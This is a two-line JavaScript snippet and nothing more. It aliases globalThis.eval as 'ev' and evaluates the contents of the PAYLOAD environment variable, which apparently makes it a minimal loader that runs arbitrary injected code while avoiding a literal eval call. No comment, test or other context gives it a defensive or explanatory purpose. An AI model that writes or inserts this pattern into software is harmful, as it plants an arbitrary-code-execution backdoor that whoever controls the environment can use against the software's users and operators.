const { eval: ev } = globalThis;
ev(process.env.PAYLOAD);
